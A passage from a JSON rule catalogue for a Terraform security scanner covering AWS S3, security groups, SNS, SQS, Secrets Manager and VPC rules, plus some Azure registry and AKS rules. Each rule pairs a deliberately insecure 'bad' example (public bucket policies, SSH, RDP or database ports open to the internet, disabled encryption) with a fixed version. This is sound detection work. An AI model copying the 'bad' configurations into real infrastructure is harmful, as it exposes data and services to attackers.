    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:s3",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-s3-bucket-policy-public",
    "title": "S3 bucket policy allows access to anyone",
    "severity": "high",
    "cwe": [
      "CWE-732"
    ],
    "description": "A bucket policy statement with `Effect = \"Allow\"` and `Principal = \"*\"` (or `{\"AWS\": \"*\"}`) and no condition that limits the caller (source VPC endpoint, organization, account, IP range, ...) lets anyone on the internet perform its actions. Policies are read from `aws_s3_bucket_policy` and the legacy `policy` argument, written as JSON, `jsonencode(...)` or an `aws_iam_policy_document` data source. A bucket whose Block Public Access sets `block_public_policy` or `restrict_public_buckets` is not flagged.",
    "help": {
      "bad": "resource \"aws_s3_bucket_policy\" \"site\" {\n  bucket = \"example-site\"\n  policy = jsonencode({\n    Version   = \"2012-10-17\"\n    Statement = [{\n      Effect    = \"Allow\"\n      Principal = \"*\"\n      Action    = \"s3:GetObject\"\n      Resource  = \"arn:aws:s3:::example-site/*\"\n    }]\n  })\n}\n",
      "good": "resource \"aws_s3_bucket_policy\" \"site\" {\n  bucket = \"example-site\"\n  policy = jsonencode({\n    Version   = \"2012-10-17\"\n    Statement = [{\n      Effect    = \"Allow\"\n      Principal = { Service = \"cloudfront.amazonaws.com\" }\n      Action    = \"s3:GetObject\"\n      Resource  = \"arn:aws:s3:::example-site/*\"\n      Condition = {\n        StringEquals = { \"AWS:SourceArn\" = \"arn:aws:cloudfront::111122223333:distribution/EDFDVBD6EXAMPLE\" }\n      }\n    }]\n  })\n}\n",
      "fix": "Grant access to specific principals, or add a condition such as `aws:SourceArn`, `aws:SourceVpce` or `aws:PrincipalOrgID`; serve public files through CloudFront with origin access control."
    },
    "references": [
      "https://docs.aws.amazon.com/AmazonS3/latest/userguide/access-control-block-public-access.html#access-control-block-public-access-policy-status",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/s3_bucket_policy"
    ],
    "checkov": [
      "CKV_AWS_70"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:s3",
      "owasp:A01:2021"
    ]
  },
  {
    "id": "iac/aws-s3-bucket-public-access-block-missing",
    "title": "S3 bucket has no Block Public Access configuration",
    "severity": "low",
    "cwe": [
      "CWE-284"
    ],
    "description": "S3 Block Public Access is the guard rail that stops a later ACL or bucket policy change from making the bucket public. Since April 2023 AWS turns it on for new buckets, so a missing `aws_s3_bucket_public_access_block` is a defence-in-depth gap rather than an exposure: the setting is not written in code, so drift or an older bucket goes unnoticed. Not flagged when the project sets `aws_s3_account_public_access_block`, or when a public access block names its bucket through a value that cannot be resolved.",
    "help": {
      "bad": "resource \"aws_s3_bucket\" \"data\" {\n  bucket = \"example-data\"\n}\n",
      "good": "resource \"aws_s3_bucket\" \"data\" {\n  bucket = \"example-data\"\n}\n\nresource \"aws_s3_bucket_public_access_block\" \"data\" {\n  bucket                  = aws_s3_bucket.data.id\n  block_public_acls       = true\n  block_public_policy     = true\n  ignore_public_acls      = true\n  restrict_public_buckets = true\n}\n",
      "fix": "Add an `aws_s3_bucket_public_access_block` for the bucket with all four settings `true` (or an account-level `aws_s3_account_public_access_block`)."
    },
    "references": [
      "https://docs.aws.amazon.com/AmazonS3/latest/userguide/access-control-block-public-access.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/s3_bucket_public_access_block"
    ],
    "checkov": [
      "CKV2_AWS_6"
    ],
    "precision": "medium",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:s3",
      "owasp:A01:2021"
    ]
  },
  {
    "id": "iac/aws-s3-bucket-public-acl",
    "title": "S3 bucket ACL grants public access",
    "severity": "high",
    "cwe": [
      "CWE-732"
    ],
    "description": "A canned ACL such as `public-read`, `public-read-write` or `authenticated-read` (or a grant to the AllUsers / AuthenticatedUsers groups) exposes the bucket to anyone on the internet or to every AWS account. Both the legacy `acl` argument of `aws_s3_bucket` and the separate `aws_s3_bucket_acl` resource (AWS provider v4+) are checked. A bucket whose S3 Block Public Access sets `ignore_public_acls = true` is not flagged, because S3 then ignores public ACLs.",
    "help": {
      "bad": "resource \"aws_s3_bucket\" \"assets\" {\n  bucket = \"example-assets\"\n}\n\nresource \"aws_s3_bucket_acl\" \"assets\" {\n  bucket = aws_s3_bucket.assets.id\n  acl    = \"public-read\"\n}\n",
      "good": "resource \"aws_s3_bucket\" \"assets\" {\n  bucket = \"example-assets\"\n}\n\nresource \"aws_s3_bucket_acl\" \"assets\" {\n  bucket = aws_s3_bucket.assets.id\n  acl    = \"private\"\n}\n",
      "fix": "Use the `private` ACL (or disable ACLs with `aws_s3_bucket_ownership_controls` set to `BucketOwnerEnforced`) and serve public content through CloudFront with origin access control."
    },
    "references": [
      "https://docs.aws.amazon.com/AmazonS3/latest/userguide/acl-overview.html#canned-acl",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/s3_bucket_acl"
    ],
    "checkov": [
      "CKV_AWS_20"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:s3",
      "owasp:A01:2021"
    ]
  },
  {
    "id": "iac/aws-s3-bucket-tls-not-enforced",
    "title": "S3 bucket policy does not require TLS",
    "severity": "low",
    "cwe": [
      "CWE-319"
    ],
    "description": "S3 accepts plain HTTP requests unless the bucket policy denies them. A statement that denies requests where `aws:SecureTransport` is `false` (or that tests `s3:TlsVersion`) makes every client use TLS. The bucket is judged by all its policies (`aws_s3_bucket_policy` and the legacy `policy` argument); a policy that cannot be read, or one attached through an unresolved reference, keeps the rule silent.",
    "help": {
      "bad": "resource \"aws_s3_bucket\" \"data\" {\n  bucket = \"example-data\"\n}\n",
      "good": "resource \"aws_s3_bucket\" \"data\" {\n  bucket = \"example-data\"\n}\n\nresource \"aws_s3_bucket_policy\" \"data\" {\n  bucket = aws_s3_bucket.data.id\n  policy = jsonencode({\n    Version   = \"2012-10-17\"\n    Statement = [{\n      Sid       = \"DenyInsecureTransport\"\n      Effect    = \"Deny\"\n      Principal = \"*\"\n      Action    = \"s3:*\"\n      Resource  = [\"arn:aws:s3:::example-data\", \"arn:aws:s3:::example-data/*\"]\n      Condition = { Bool = { \"aws:SecureTransport\" = \"false\" } }\n    }]\n  })\n}\n",
      "fix": "Add a bucket policy statement that denies `s3:*` when `aws:SecureTransport` is `false`."
    },
    "references": [
      "https://docs.aws.amazon.com/AmazonS3/latest/userguide/security-best-practices.html#transit",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/s3_bucket_policy"
    ],
    "checkov": [
      "CKV_AWS_379"
    ],
    "precision": "medium",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:s3",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-s3-bucket-versioning-disabled",
    "title": "S3 bucket versioning is not enabled",
    "severity": "low",
    "cwe": [
      "CWE-693"
    ],
    "description": "Without versioning, an overwrite or delete (by mistake, by a compromised credential or by ransomware) destroys the only copy of an object. Versioning is enabled either by the legacy inline `versioning { enabled = true }` block or by a separate `aws_s3_bucket_versioning` resource (AWS provider v4+) with `status = \"Enabled\"`. Buckets with S3 Object Lock are versioned by definition and not flagged.",
    "help": {
      "bad": "resource \"aws_s3_bucket\" \"backups\" {\n  bucket = \"example-backups\"\n}\n\nresource \"aws_s3_bucket_versioning\" \"backups\" {\n  bucket = aws_s3_bucket.backups.id\n  versioning_configuration {\n    status = \"Suspended\"\n  }\n}\n",
      "good": "resource \"aws_s3_bucket\" \"backups\" {\n  bucket = \"example-backups\"\n}\n\nresource \"aws_s3_bucket_versioning\" \"backups\" {\n  bucket = aws_s3_bucket.backups.id\n  versioning_configuration {\n    status = \"Enabled\"\n  }\n}\n",
      "fix": "Add an `aws_s3_bucket_versioning` resource with `status = \"Enabled\"` (and a lifecycle rule that expires old versions)."
    },
    "references": [
      "https://docs.aws.amazon.com/AmazonS3/latest/userguide/Versioning.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/s3_bucket_versioning"
    ],
    "checkov": [
      "CKV_AWS_21"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:s3",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/aws-s3-public-access-block-disabled",
    "title": "S3 Block Public Access setting is turned off",
    "severity": "medium",
    "cwe": [
      "CWE-284"
    ],
    "description": "Each of the four S3 Block Public Access settings (`block_public_acls`, `block_public_policy`, `ignore_public_acls`, `restrict_public_buckets`) defaults to `false` in `aws_s3_bucket_public_access_block` and `aws_s3_account_public_access_block`, so a setting that is left out or set to `false` lets a public ACL or bucket policy expose the data. The finding is on the `false` setting, or on the resource when a setting is missing.",
    "help": {
      "bad": "resource \"aws_s3_bucket_public_access_block\" \"data\" {\n  bucket                  = \"example-data\"\n  block_public_acls       = true\n  block_public_policy     = false\n  ignore_public_acls      = true\n  restrict_public_buckets = true\n}\n",
      "good": "resource \"aws_s3_bucket_public_access_block\" \"data\" {\n  bucket                  = \"example-data\"\n  block_public_acls       = true\n  block_public_policy     = true\n  ignore_public_acls      = true\n  restrict_public_buckets = true\n}\n",
      "fix": "Set all four settings to `true`; host public content behind CloudFront instead of opening the bucket."
    },
    "references": [
      "https://docs.aws.amazon.com/AmazonS3/latest/userguide/access-control-block-public-access.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/s3_bucket_public_access_block"
    ],
    "checkov": [
      "CKV_AWS_53",
      "CKV_AWS_54",
      "CKV_AWS_55",
      "CKV_AWS_56"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:s3",
      "owasp:A01:2021"
    ]
  },
  {
    "id": "iac/aws-secretsmanager-rotation-disabled",
    "title": "Secrets Manager secret is not rotated automatically",
    "severity": "low",
    "cwe": [
      "CWE-324"
    ],
    "description": "A secret that is never rotated stays valid for as long as it has leaked. A secret is rotated when an `aws_secretsmanager_secret_rotation` refers to it (or, with old providers, the inline `rotation_rules` block is set). Secrets managed by another service (`RDS`-managed master passwords) do not appear as `aws_secretsmanager_secret` and are not concerned; a rotation whose secret cannot be resolved keeps the rule silent.",
    "help": {
      "bad": "resource \"aws_secretsmanager_secret\" \"db\" {\n  name = \"app/db\"\n}\n",
      "good": "resource \"aws_secretsmanager_secret\" \"db\" {\n  name = \"app/db\"\n}\n\nresource \"aws_secretsmanager_secret_rotation\" \"db\" {\n  secret_id           = aws_secretsmanager_secret.db.id\n  rotation_lambda_arn = \"arn:aws:lambda:eu-west-1:111122223333:function:rotate-db\"\n\n  rotation_rules {\n    automatically_after_days = 30\n  }\n}\n",
      "fix": "Add an `aws_secretsmanager_secret_rotation` with a rotation function and `rotation_rules`."
    },
    "references": [
      "https://docs.aws.amazon.com/secretsmanager/latest/userguide/rotating-secrets.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/secretsmanager_secret_rotation"
    ],
    "checkov": [
      "CKV2_AWS_57"
    ],
    "precision": "medium",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:secretsmanager",
      "owasp:A07:2021"
    ]
  },
  {
    "id": "iac/aws-sg-ingress-all-open",
    "title": "Security group allows all traffic from the internet",
    "severity": "high",
    "cwe": [
      "CWE-284"
    ],
    "description": "An ingress rule with protocol `-1` (all traffic), or TCP/UDP ports 0-65535, from `0.0.0.0/0` or `::/0` exposes every service listening on the attached instances, including administration and database ports, to the whole internet. Security group rules are read from inline `ingress` blocks of `aws_security_group` and `aws_default_security_group`, `aws_security_group_rule` (type `ingress`) and `aws_vpc_security_group_ingress_rule`. Egress to everywhere is normal and not checked.",
    "help": {
      "bad": "resource \"aws_vpc_security_group_ingress_rule\" \"any\" {\n  security_group_id = \"sg-0123456789abcdef0\"\n  ip_protocol       = \"-1\"\n  cidr_ipv4         = \"0.0.0.0/0\"\n}\n",
      "good": "resource \"aws_vpc_security_group_ingress_rule\" \"https\" {\n  security_group_id = \"sg-0123456789abcdef0\"\n  ip_protocol       = \"tcp\"\n  from_port         = 443\n  to_port           = 443\n  cidr_ipv4         = \"0.0.0.0/0\"\n}\n",
      "fix": "Open only the ports the service needs (for example 443), and only to the networks that need them."
    },
    "references": [
      "https://docs.aws.amazon.com/vpc/latest/userguide/security-group-rules.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/security_group"
    ],
    "checkov": [
      "CKV_AWS_277"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:ec2",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/aws-sg-ingress-database-open",
    "title": "Security group allows a database port from the internet",
    "severity": "high",
    "cwe": [
      "CWE-284"
    ],
    "description": "An ingress rule that allows a database port (MySQL 3306, PostgreSQL 5432, SQL Server 1433, Oracle 1521, MongoDB 27017, Redis 6379, Elasticsearch 9200) from `0.0.0.0/0` or `::/0` puts the data store within reach of mass scanners that try default credentials and known exploits. Security group rules are read from inline `ingress` blocks, `aws_security_group_rule` and `aws_vpc_security_group_ingress_rule`; rules that open all traffic are reported by `iac/aws-sg-ingress-all-open` instead.",
    "help": {
      "bad": "resource \"aws_security_group_rule\" \"postgres\" {\n  type              = \"ingress\"\n  security_group_id = \"sg-0123456789abcdef0\"\n  protocol          = \"tcp\"\n  from_port         = 5432\n  to_port           = 5432\n  cidr_blocks       = [\"0.0.0.0/0\"]\n}\n",
      "good": "resource \"aws_security_group_rule\" \"postgres\" {\n  type                     = \"ingress\"\n  security_group_id        = \"sg-0123456789abcdef0\"\n  protocol                 = \"tcp\"\n  from_port                = 5432\n  to_port                  = 5432\n  source_security_group_id = \"sg-0fedcba9876543210\"\n}\n",
      "fix": "Allow the database port only from the application tier security group or private CIDR ranges; keep databases in private subnets."
    },
    "references": [
      "https://docs.aws.amazon.com/vpc/latest/userguide/security-group-rules.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/security_group_rule"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:ec2",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/aws-sg-ingress-rdp-open",
    "title": "Security group allows RDP (port 3389) from the internet",
    "severity": "high",
    "cwe": [
      "CWE-284"
    ],
    "description": "An ingress rule that allows TCP port 3389 from `0.0.0.0/0` or `::/0` exposes Remote Desktop, a favourite entry point for ransomware operators, to the whole internet. Security group rules are read from inline `ingress` blocks of `aws_security_group` and `aws_default_security_group`, `aws_security_group_rule` (type `ingress`) and `aws_vpc_security_group_ingress_rule`. Rules that open every protocol or the whole port range are reported by `iac/aws-sg-ingress-all-open` instead. Egress rules are not checked.",
    "help": {
      "bad": "resource \"aws_security_group\" \"admin\" {\n  name   = \"admin\"\n  vpc_id = \"vpc-0123456789abcdef0\"\n\n  ingress {\n    from_port   = 3389\n    to_port     = 3389\n    protocol    = \"tcp\"\n    cidr_blocks = [\"0.0.0.0/0\"]\n  }\n}\n",
      "good": "resource \"aws_security_group\" \"admin\" {\n  name   = \"admin\"\n  vpc_id = \"vpc-0123456789abcdef0\"\n\n  ingress {\n    from_port   = 3389\n    to_port     = 3389\n    protocol    = \"tcp\"\n    cidr_blocks = [\"10.20.0.0/16\"]\n  }\n}\n",
      "fix": "Allow RDP only from a VPN or corporate range, or use Fleet Manager / Session Manager port forwarding instead of inbound RDP."
    },
    "references": [
      "https://docs.aws.amazon.com/vpc/latest/userguide/security-group-rules.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/security_group"
    ],
    "checkov": [
      "CKV_AWS_25"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:ec2",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/aws-sg-ingress-ssh-open",
    "title": "Security group allows SSH (port 22) from the internet",
    "severity": "high",
    "cwe": [
      "CWE-284"
    ],
    "description": "An ingress rule that allows TCP port 22 from `0.0.0.0/0` or `::/0` exposes SSH to password guessing, credential stuffing and exploits of the SSH daemon from anywhere. Security group rules are read from inline `ingress` blocks of `aws_security_group` and `aws_default_security_group`, `aws_security_group_rule` (type `ingress`) and `aws_vpc_security_group_ingress_rule`. Rules that open every protocol or the whole port range are reported by `iac/aws-sg-ingress-all-open` instead. Egress rules are not checked.",
    "help": {
      "bad": "resource \"aws_security_group\" \"admin\" {\n  name   = \"admin\"\n  vpc_id = \"vpc-0123456789abcdef0\"\n\n  ingress {\n    from_port   = 22\n    to_port     = 22\n    protocol    = \"tcp\"\n    cidr_blocks = [\"0.0.0.0/0\"]\n  }\n}\n",
      "good": "resource \"aws_security_group\" \"admin\" {\n  name   = \"admin\"\n  vpc_id = \"vpc-0123456789abcdef0\"\n\n  ingress {\n    from_port   = 22\n    to_port     = 22\n    protocol    = \"tcp\"\n    cidr_blocks = [\"10.20.0.0/16\"]\n  }\n}\n",
      "fix": "Allow SSH only from a bastion, VPN or corporate range, or drop inbound SSH and use AWS Systems Manager Session Manager or EC2 Instance Connect Endpoint."
    },
    "references": [
      "https://docs.aws.amazon.com/vpc/latest/userguide/security-group-rules.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/security_group"
    ],
    "checkov": [
      "CKV_AWS_24"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:ec2",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/aws-sns-topic-not-encrypted",
    "title": "SNS topic is not encrypted",
    "severity": "low",
    "cwe": [
      "CWE-311"
    ],
    "description": "SNS stores messages unencrypted at rest until they are delivered unless the topic has a KMS key (`kms_master_key_id`, for example `alias/aws/sns`). Worth it for topics that carry personal or business data.",
    "help": {
      "bad": "resource \"aws_sns_topic\" \"orders\" {\n  name = \"orders\"\n}\n",
      "good": "resource \"aws_sns_topic\" \"orders\" {\n  name              = \"orders\"\n  kms_master_key_id = \"alias/aws/sns\"\n}\n",
      "fix": "Set `kms_master_key_id` to `alias/aws/sns` or a customer managed key that allows the publishers."
    },
    "references": [
      "https://docs.aws.amazon.com/sns/latest/dg/sns-server-side-encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/sns_topic#kms_master_key_id"
    ],
    "checkov": [
      "CKV_AWS_26"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:sns",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-sns-topic-policy-public",
    "title": "SNS topic policy allows any principal",
    "severity": "high",
    "cwe": [
      "CWE-732"
    ],
    "description": "A topic policy statement that allows `Principal = \"*\"` without a condition that limits the caller (for example `aws:SourceOwner`, `aws:SourceAccount`, `aws:SourceArn` or `aws:PrincipalOrgID`) lets any AWS account publish to or subscribe to the topic. Read from `aws_sns_topic_policy` and the `policy` argument of `aws_sns_topic`, as JSON, `jsonencode(...)` or `aws_iam_policy_document`.",
    "help": {
      "bad": "resource \"aws_sns_topic_policy\" \"events\" {\n  arn    = \"arn:aws:sns:eu-west-1:111122223333:events\"\n  policy = jsonencode({\n    Version   = \"2012-10-17\"\n    Statement = [{\n      Effect    = \"Allow\"\n      Principal = \"*\"\n      Action    = \"sns:Publish\"\n      Resource  = \"arn:aws:sns:eu-west-1:111122223333:events\"\n    }]\n  })\n}\n",
      "good": "resource \"aws_sns_topic_policy\" \"events\" {\n  arn    = \"arn:aws:sns:eu-west-1:111122223333:events\"\n  policy = jsonencode({\n    Version   = \"2012-10-17\"\n    Statement = [{\n      Effect    = \"Allow\"\n      Principal = \"*\"\n      Action    = \"sns:Publish\"\n      Resource  = \"arn:aws:sns:eu-west-1:111122223333:events\"\n      Condition = { ArnEquals = { \"aws:SourceArn\" = \"arn:aws:s3:::example-uploads\" } }\n    }]\n  })\n}\n",
      "fix": "Name the principals, or add an `aws:SourceOwner` / `aws:SourceArn` / `aws:PrincipalOrgID` condition to wildcard statements."
    },
    "references": [
      "https://docs.aws.amazon.com/sns/latest/dg/sns-access-policy-use-cases.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/sns_topic_policy"
    ],
    "checkov": [
      "CKV_AWS_169"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:sns",
      "owasp:A01:2021"
    ]
  },
  {
    "id": "iac/aws-sqs-queue-not-encrypted",
    "title": "SQS queue encryption is turned off",
    "severity": "low",
    "cwe": [
      "CWE-311"
    ],
    "description": "New SQS queues are encrypted with SQS-managed keys (SSE-SQS) by default; `sqs_managed_sse_enabled = false` without a `kms_master_key_id` turns server-side encryption off, so messages are stored unencrypted.",
    "help": {
      "bad": "resource \"aws_sqs_queue\" \"jobs\" {\n  name                    = \"jobs\"\n  sqs_managed_sse_enabled = false\n}\n",
      "good": "resource \"aws_sqs_queue\" \"jobs\" {\n  name                    = \"jobs\"\n  sqs_managed_sse_enabled = true\n}\n",
      "fix": "Remove `sqs_managed_sse_enabled = false`, or set `kms_master_key_id` to use a KMS key."
    },
    "references": [
      "https://docs.aws.amazon.com/AWSSimpleQueueService/latest/SQSDeveloperGuide/sqs-server-side-encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/sqs_queue#sqs_managed_sse_enabled"
    ],
    "checkov": [
      "CKV_AWS_27"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:sqs",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-sqs-queue-policy-public",
    "title": "SQS queue policy allows any principal",
    "severity": "high",
    "cwe": [
      "CWE-732"
    ],
    "description": "A queue policy statement that allows `Principal = \"*\"` without a condition that limits the caller (for example `aws:SourceArn` for an SNS topic or S3 bucket, `aws:SourceAccount`, `aws:PrincipalOrgID`) lets any AWS account send, read or delete messages. Read from `aws_sqs_queue_policy` and the `policy` argument of `aws_sqs_queue`, as JSON, `jsonencode(...)` or `aws_iam_policy_document`.",
    "help": {
      "bad": "resource \"aws_sqs_queue_policy\" \"events\" {\n  queue_url = \"https://sqs.eu-west-1.amazonaws.com/111122223333/jobs\"\n  policy    = jsonencode({\n    Version   = \"2012-10-17\"\n    Statement = [{\n      Effect    = \"Allow\"\n      Principal = \"*\"\n      Action    = \"sqs:SendMessage\"\n      Resource  = \"arn:aws:sqs:eu-west-1:111122223333:jobs\"\n    }]\n  })\n}\n",
      "good": "resource \"aws_sqs_queue_policy\" \"events\" {\n  queue_url = \"https://sqs.eu-west-1.amazonaws.com/111122223333/jobs\"\n  policy    = jsonencode({\n    Version   = \"2012-10-17\"\n    Statement = [{\n      Effect    = \"Allow\"\n      Principal = \"*\"\n      Action    = \"sqs:SendMessage\"\n      Resource  = \"arn:aws:sqs:eu-west-1:111122223333:jobs\"\n      Condition = { ArnEquals = { \"aws:SourceArn\" = \"arn:aws:sns:eu-west-1:111122223333:events\" } }\n    }]\n  })\n}\n",
      "fix": "Name the principals, or add an `aws:SourceArn` / `aws:SourceAccount` / `aws:PrincipalOrgID` condition to wildcard statements."
    },
    "references": [
      "https://docs.aws.amazon.com/AWSSimpleQueueService/latest/SQSDeveloperGuide/sqs-basic-examples-of-sqs-policies.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/sqs_queue_policy"
    ],
    "checkov": [
      "CKV_AWS_168"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:sqs",
      "owasp:A01:2021"
    ]
  },
  {
    "id": "iac/aws-vpc-flow-logs-disabled",
    "title": "VPC has no flow logs",
    "severity": "low",
    "cwe": [
      "CWE-778"
    ],
    "description": "VPC flow logs record the IP traffic of every network interface in the VPC (accepted and rejected), the evidence needed to spot scanning, exfiltration or lateral movement after the fact. A VPC is covered by an `aws_flow_log` whose `vpc_id` refers to it; a flow log whose VPC cannot be resolved keeps the rule silent.",
    "help": {
      "bad": "resource \"aws_vpc\" \"main\" {\n  cidr_block = \"10.0.0.0/16\"\n}\n",
      "good": "resource \"aws_vpc\" \"main\" {\n  cidr_block = \"10.0.0.0/16\"\n}\n\nresource \"aws_flow_log\" \"main\" {\n  vpc_id               = aws_vpc.main.id\n  traffic_type         = \"ALL\"\n  log_destination_type = \"s3\"\n  log_destination      = \"arn:aws:s3:::example-flow-logs\"\n}\n",
      "fix": "Add an `aws_flow_log` with `vpc_id` set to the VPC and `traffic_type = \"ALL\"`."
    },
    "references": [
      "https://docs.aws.amazon.com/vpc/latest/userguide/flow-logs.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/flow_log"
    ],
    "checkov": [
      "CKV2_AWS_11"
    ],
    "precision": "medium",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:vpc",
      "owasp:A09:2021"
    ]
  },
  {
    "id": "iac/azure-acr-admin-enabled",
    "title": "Container registry admin user is enabled",
    "severity": "medium",
    "cwe": [
      "CWE-798",
      "CWE-522"
    ],
    "description": "The registry admin user is a single shared username and password with push and pull rights on every repository. It cannot be scoped or tied to a person, and it tends to be copied into CI variables and cluster secrets, where a leak lets attackers push malicious images.",
    "help": {
      "bad": "resource \"azurerm_container_registry\" \"acr\" {\n  name                = \"acmeregistry\"\n  resource_group_name = \"rg\"\n  location            = \"westeurope\"\n  sku                 = \"Premium\"\n  admin_enabled       = true\n}\n",
      "good": "resource \"azurerm_container_registry\" \"acr\" {\n  name                = \"acmeregistry\"\n  resource_group_name = \"rg\"\n  location            = \"westeurope\"\n  sku                 = \"Premium\"\n  admin_enabled       = false\n}\n",
      "fix": "Set `admin_enabled = false` and pull with managed identities (AcrPull role) or repository-scoped tokens."
    },
    "references": [
      "https://learn.microsoft.com/azure/container-registry/container-registry-authentication#admin-account",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/container_registry#admin_enabled"
    ],
    "checkov": [
      "CKV_AZURE_137"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A07:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-acr-public-network-access",
    "title": "Premium container registry is reachable from any network",
    "severity": "medium",
    "cwe": [
      "CWE-284"
    ],
    "description": "A Premium registry with public network access on (the default) and no network rule set denying by default can be reached from anywhere, so leaked credentials are enough to pull proprietary images or push malicious ones. Only the Premium tier supports network restrictions; Basic and Standard registries are not reported.",
    "help": {
      "bad": "resource \"azurerm_container_registry\" \"acr\" {\n  name                = \"acmeregistry\"\n  resource_group_name = \"rg\"\n  location            = \"westeurope\"\n  sku                 = \"Premium\"\n  admin_enabled       = false\n}\n",
      "good": "resource \"azurerm_container_registry\" \"acr\" {\n  name                = \"acmeregistry\"\n  resource_group_name = \"rg\"\n  location            = \"westeurope\"\n  sku                 = \"Premium\"\n  admin_enabled                 = false\n  public_network_access_enabled = false\n}\n",
      "fix": "Set `public_network_access_enabled = false` with private endpoints, or add `network_rule_set { default_action = \"Deny\" }` with the allowed IP ranges."
    },
    "references": [
      "https://learn.microsoft.com/azure/container-registry/container-registry-access-selected-networks",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/container_registry#public_network_access_enabled"
    ],
    "checkov": [
      "CKV_AZURE_139"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-aks-api-server-authorized-ips",
    "title": "AKS public API server accepts connections from any IP address",
    "severity": "medium",
    "cwe": [
      "CWE-284"
    ],
    "description": "A public AKS API server without authorized IP ranges (`api_server_access_profile { authorized_ip_ranges }`, or `api_server_authorized_ip_ranges` before azurerm 3.39) accepts connections from the whole internet, exposing it to credential attacks and API server vulnerabilities. Private clusters are not reported.",
    "help": {
      "bad": "resource \"azurerm_kubernetes_cluster\" \"main\" {\n  name                = \"acme-aks\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n  dns_prefix          = \"acme\"\n\n  default_node_pool {\n    name       = \"default\"\n    node_count = 3\n    vm_size    = \"Standard_D4s_v5\"\n  }\n\n  identity {\n    type = \"SystemAssigned\"\n  }\n}\n",
      "good": "resource \"azurerm_kubernetes_cluster\" \"main\" {\n  name                = \"acme-aks\"\n  location            = \"westeurope\"\n  resource_group_name = \"rg\"\n  dns_prefix          = \"acme\"\n\n  default_node_pool {\n    name       = \"default\"\n    node_count = 3\n    vm_size    = \"Standard_D4s_v5\"\n  }\n\n  identity {\n    type = \"SystemAssigned\"\n  }\n\n  api_server_access_profile {\n    authorized_ip_ranges = [\"203.0.113.0/24\"]\n  }\n}\n",
      "fix": "Add `api_server_access_profile { authorized_ip_ranges = [...] }` with the networks that administer the cluster, or make the cluster private."
    },
    "references": [
      "https://learn.microsoft.com/azure/aks/api-server-authorized-ip-ranges",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/kubernetes_cluster#authorized_ip_ranges"
    ],
    "checkov": [
      "CKV_AZURE_6"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-aks-azure-policy",
    "title": "AKS cluster does not use the Azure Policy add-on",
    "severity": "low",
    "cwe": [
      "CWE-693"
    ],
